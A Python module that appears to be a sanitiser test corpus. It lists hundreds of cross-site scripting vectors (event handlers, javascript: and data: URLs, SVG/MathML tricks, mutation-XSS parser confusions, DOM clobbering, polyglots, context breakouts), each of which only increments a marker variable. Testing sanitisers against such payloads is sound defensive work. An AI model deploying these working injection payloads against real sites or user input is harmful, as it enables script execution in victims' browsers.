r"""Markup that has run somewhere where it should not have: well-known ways into editors, sanitisers and templates.

Each would set `top.ran` to its own words. Our own collection, written anew from what the public lists of such
markup have in common: handlers, addresses, foreign namespaces, markup that changes when it is parsed twice.
"""

from __future__ import annotations

RUN = "top.ran=(top.ran||0)+1"
# An attribute's value in which nothing stands as such.
ENTITIES = "".join(f"&#{ord(letter)};" for letter in "javascript:")
LONG_ENTITIES = "".join(f"&#x{ord(letter):07x}" for letter in "javascript:")

HANDLERS = [
    *(
        f"<{tag} {event}={RUN}>words</{tag}>"
        for tag, event in (
            ("p", "onclick"),
            ("b", "onmouseover"),
            ("div", "onpointerrawupdate"),
            ("a href=#", "onfocus"),
            ("p tabindex=1 autofocus", "onfocus"),
            ("div contenteditable", "onblur"),
            ("p", "onbeforecopy"),
            ("h2", "oncopy"),
            ("blockquote", "onwheel"),
            ("li", "ondragstart"),
            ("marquee", "onstart"),
            ("p style=animation-name:x", "onanimationstart"),
            ("b style=transition:1s", "ontransitionend"),
            ("p", "oncontentvisibilityautostatechange"),
            ("xss", "onmouseenter"),
            ("font", "onpaste"),
        )
    ),
    f"<img src=x onerror={RUN}>",
    f"<img src=/media/x.webp onerror={RUN} onload={RUN}>",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x oneonerrorrror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f'<img src=x\tonerror\n=\n"{RUN}">',
    f"<img src=x onerror\x0c={RUN}>",
    f"<image src=x onerror={RUN}>",
    f"<img srcset=x,y onerror={RUN}>",
    f"<picture><source srcset=x><img onerror={RUN}></picture>",
    f"<video src=x onerror={RUN}></video>",
    f"<video><source src=x onerror={RUN}></video>",
    f"<video poster=x onloadstart={RUN}><source></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<body onload={RUN}><p>words</p>",
    f"<body onpageshow={RUN} onhashchange={RUN} onscroll={RUN}>",
    f"<details open ontoggle={RUN}><summary>words</summary>more</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}><option>words</select>",
    f"<textarea autofocus onfocus={RUN}>words</textarea>",
    f"<button popovertarget=x onclick={RUN}>words</button><p popover id=x onbeforetoggle={RUN}>words</p>",
    f"<object data=x onerror={RUN}></object>",
    f"<embed src=x onload={RUN}>",
    f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<style onload={RUN}></style>",
    f"<script src=x onerror={RUN}></script>",
]

ADDRESSES = [
    *(
        f'<a href="{address}{RUN}">words</a>'
        for address in (
            "javascript:",
            "JaVaScRiPt:",
            " javascript:",
            "\x01javascript:",
            "java\tscript:",
            "java\nscript:",
            "java\rscript:",
            "java&Tab;script:",
            "java&NewLine;script:",
            "javascript&colon;",
            "&#14;javascript:",
            "javascript://%0a",
            "javascript://example.org/%0d%0a",
            "vbscript:",
            "livescript:",
            "feed:javascript:",
            "view-source:javascript:",
            "\u00a0javascript:",
            "\u2028javascript:",
            "\ufeffjavascript:",
            "java\u200bscript:",
            "java\x00script:",
            "blob:",
            "filesystem:",
            "jar:javascript:",
            ENTITIES,
            LONG_ENTITIES,
        )
    ),
    f'<a href="data:text/html,<script>{RUN}</script>">words</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=">words</a>',
    f"<a href=`javascript:{RUN}`>words</a>",
    f"<a href=//example.org/%22onclick={RUN}>words</a>",
    f'<a href="https://example.org/" onclick="{RUN}" target=_blank ping="javascript:{RUN}">words</a>',
    f'<a title="&quot; onmouseover={RUN} x=&quot;" href="https://example.org/">words</a>',
    f'<area shape=rect coords=0,0,99,99 href="javascript:{RUN}">',
    f'<map name=x><area href="javascript:{RUN}"></map><img usemap=#x src=x>',
    f'<img src="javascript:{RUN}">',
    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>\">",
    f'<img dynsrc="javascript:{RUN}" lowsrc="javascript:{RUN}">',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f"<iframe src='data:text/html,<script>{RUN}</script>'></iframe>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<iframe srcdoc="&lt;img src=x onerror={RUN}&gt;"></iframe>',
    f'<frameset><frame src="javascript:{RUN}"></frameset>',
    f'<embed src="javascript:{RUN}">',
    f'<object data="javascript:{RUN}"></object>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f'<applet code="javascript:{RUN}"></applet>',
    f'<portal src="javascript:{RUN}"></portal>',
    f'<table background="javascript:{RUN}"><td background="javascript:{RUN}">words</table>',
    f'<form action="javascript:{RUN}"><button>words</button></form>',
    f'<form><button formaction="javascript:{RUN}">words</button><input type=image src=x formaction="javascript:{RUN}">',
    f'<isindex type=image src=1 onerror={RUN} action="javascript:{RUN}">',
    f'<base href="javascript:{RUN}//"><a href=/x>words</a>',
    "<base href=//example.org/ target=_top>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f'<meta http-equiv=refresh content="0;url=data:text/html,<script>{RUN}</script>">',
    "<meta http-equiv=content-security-policy content=\"script-src 'unsafe-inline'\">",
    f'<link rel=import href="data:text/html,<script>{RUN}</script>">',
    f'<blockquote cite="javascript:{RUN}">words</blockquote>',
]

NAMESPACES = [
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN}></script></svg>",
    f"<svg><script>{RUN.replace('=', '&#61;')}</script></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>words</text></a></svg>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=20>words</text></a></svg>',
    f'<svg><set attributeName=onmouseover to="{RUN}"/></svg>',
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN}></svg>#x"/></svg>',
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><desc><script>{RUN}</script></desc></svg>",
    f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    f'<math href="javascript:{RUN}">words</math>',
    f'<math><maction actiontype=statusline xlink:href="javascript:{RUN}">words</maction></math>',
    f'<math><annotation-xml encoding="text/html"><img src=x onerror={RUN}></annotation-xml></math>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
]

CHANGING = [
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">words</p></noscript>',
    f"<math><mi><table><mi><mglyph><style></math><img src=x onerror={RUN}></style></mglyph></table></math>",
    (
        "<form><math><mtext></form><form><mglyph><style></math>"
        f"<img src onerror={RUN}></style></mglyph></mtext></math></form>"
    ),
    f'<svg></p><style><a title="</style><img src=x onerror={RUN}>"></style></svg>',
    f'<math></br><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;"></math>',
    f"<template><style></template><img src=x onerror={RUN}></style>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    (
        '<select><template><style><!--</style><a rel="--></style></template></select>'
        f'<img id=x src onerror={RUN}>"></template></select>'
    ),
    f'<a><table><a href=x><b title="</a><img src=x onerror={RUN}>">words</b></a></table></a>',
    f'<p title="<!--"><img src=x onerror={RUN}>--></p>',
    f"<p title='</p><script>{RUN}</script>'>words</p>",
    f"<![endif]--><!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!--!><img src=x onerror={RUN}>-->",
    f'<? foo="><script>{RUN}</script>">',
    f"<%<!--'%><script>{RUN}</script -->",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0c>{RUN}</script>",
    f"<script/x>{RUN}</script\t\n bar>",
    f"<ſcript>{RUN}</ſcript>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&lt;/script&gt;&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&lt;!--&lt;script&gt;&lt;img src=x onerror={RUN}&gt;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
]

STYLES = [
    f'<p style="width:expression({RUN})">words</p>',
    f"<p style=\"background:url('javascript:{RUN}')\">words</p>",
    '<p style="-moz-binding:url(//example.org/x.xml#x);behavior:url(x.htc)">words</p>',
    "<p style=position:fixed;inset:0;z-index:9999>words</p>",
    f"<style>@import 'javascript:{RUN}';</style>",
    "<style>*{background:url(//example.org/x)}</style><p>words</p>",
]

CLOBBERING = [
    "<form id=article-form><input name=action><input name=elements></form>",
    "<a id=panel></a><a id=panel name=dataset href=cid:x>words</a>",
    "<img name=cookie src=x><img name=getElementById src=x>",
    "<form name=body><input name=innerHTML></form>",
    "<p id=evidence>words</p><p id=tab-of-comments data-panel data-card data-save>words</p>",
    "<p class=note role=alert data-url=/admin/logout/ data-block='\" onclick=1'>words</p>",
    f'<p data-pm-slice="1 1 []" onclick={RUN}>words</p>',
    "<p __proto__=x constructor=x prototype=x>words</p>",
    "<p is=x-y slot=x nonce=x itemprop=x>words</p>",
]

POLYGLOTS = [
    f"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{RUN}//'>",
    (
        f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN})//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
        f"<sVg/<sVg/oNloAd={RUN}//>"
    ),
    f'">><marquee><img src=x onerror={RUN}></marquee>" ></textarea\\></|\\><details/open/ontoggle={RUN} >',
    f"'\"`><\x3cimg src=x onerror={RUN}>",
    f"{{{{constructor.constructor('{RUN}')()}}}}${{{RUN}}}#{{{RUN}}}<%={RUN}%>",
]

# What swallows whatever comes after it stands last.
SWALLOWING = [
    f'<title><img title="</title><img src=x onerror={RUN}>">',
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f'<noembed><img title="</noembed><img src=x onerror={RUN}>">',
    f'<textarea><img title="</textarea><img src=x onerror={RUN}>">',
    f'<noframes><img title="</noframes><img src=x onerror={RUN}>">',
    f"<img src=x onerror={RUN}",
    f'<img """><script>{RUN}</script>"',
    f"<script>{RUN}",
    f"<plaintext><img src=x onerror={RUN}>",
]

VECTORS = [*HANDLERS, *ADDRESSES, *NAMESPACES, *CHANGING, *STYLES, *CLOBBERING, *POLYGLOTS, *SWALLOWING]

# For fields that hold plain words: each breaks out of another place of a page or a script.
WORDS = [
    f"<img src=x onerror={RUN}>",
    f'" autofocus onfocus={RUN} x="',
    f"' onmouseover={RUN} '",
    f"</textarea></title></script><script>{RUN}</script>",
    f"<!--<script>{RUN}//",
    f"javascript:{RUN}",
    f"\\u003cimg src=x onerror={RUN}\\u003e`${{{RUN}}}`",
]
